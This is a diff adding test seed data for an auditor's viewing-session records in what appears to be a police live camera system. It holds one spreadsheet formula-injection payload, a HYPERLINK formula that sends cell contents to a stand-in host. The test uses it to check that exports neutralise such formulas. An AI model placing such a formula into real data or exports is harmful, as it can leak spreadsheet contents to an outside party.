@@ -252,3 +252,42 @@ def _whip(s: Stack, device_id: str, secret: str) -> httpx.Response:
         await pc.close()
         return response
     return asyncio.run(post())
+
+
+# A viewing record at chosen times (for the auditor's filters and export): (session id,
+# device, viewer, consent (a key of _RECORD_CONSENTS), start, end; None: still watching), and
+# a refusal of op-west's on WE1 at 14:05. In the window 14:00-16:00 on WE1: the first four and
+# the refusal.
+RECORD_DAY = "2026-12-01"
+RECORD_SESSIONS = [
+    ("s-before-overlaps", WE1, "op-all", "watch-me", "13:50", "14:10"),
+    ("s-inside", WE1, "op-west", "asked", "14:30", "15:00"),
+    ("s-after-overlaps", WE1, "op-all", "asked", "15:50", "16:20"),
+    ("s-still-watching", WE1, "op-all", "asked", "15:00", None),
+    ("s-starts-at-until", WE1, "op-all", "watch-me", "16:00", "16:30"),
+    ("s-ended-before", WE1, "op-all", "watch-me", "13:00", "13:59"),
+    ("s-firearms", "lv-we-afo", "afo-cmd", "policy", "14:15", "14:20"),
+    ("s-camden", "lv-ca-1", "op-all", "camden", "14:20", "14:40"),
+]
+_RECORD_CONSENTS = {"watch-me": (WE1, "officer_request"), "asked": (WE1, "accepted_request"),
+                    "policy": ("lv-we-afo", "policy_recording"), "camden": ("lv-ca-1", "accepted_request")}
+#: s-inside's reason: a spreadsheet would run it as a formula, were it not neutralised.
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
+
+
+def seed_viewing_record(conn: Any) -> None:
+    """Write :data:`RECORD_SESSIONS` as the live view records them (the caller commits)."""
+    ids = {}
+    for key, (device_id, basis) in _RECORD_CONSENTS.items():
+        ids[key] = conn.execute("INSERT INTO live_view_consents (device_id, basis, granted_at, ended_at, end_reason)"
+                                " VALUES (%s, %s, %s, %s, 'officer_stopped') RETURNING id",
+                                (device_id, basis, f"{RECORD_DAY}T12:00:00Z", f"{RECORD_DAY}T18:00:00Z")).fetchone()[0]
+    for session_id, device_id, viewer, consent, start, end in RECORD_SESSIONS:
+        reason = FORMULA if session_id == "s-inside" else f"reason of {session_id}"
+        conn.execute("INSERT INTO viewing_sessions (session_id, device_id, viewer, role, reason, consent_id,"
+                     " started_at, ended_at, end_reason) VALUES (%s, %s, %s, 'operator', %s, %s, %s, %s, %s)",
+                     (session_id, device_id, viewer, reason, ids[consent], f"{RECORD_DAY}T{start}:00Z",
+                      f"{RECORD_DAY}T{end}:00Z" if end else None, "viewer_stopped" if end else None))
+    conn.execute("INSERT INTO viewing_sessions (device_id, viewer, role, reason, started_at, ended_at, end_reason,"
+                 " refused) VALUES (%s, 'op-west', 'operator', 'refused attempt', %s, %s, 'refused',"
+                 " 'no consent in force')", (WE1, f"{RECORD_DAY}T14:05:00Z", f"{RECORD_DAY}T14:05:00Z"))
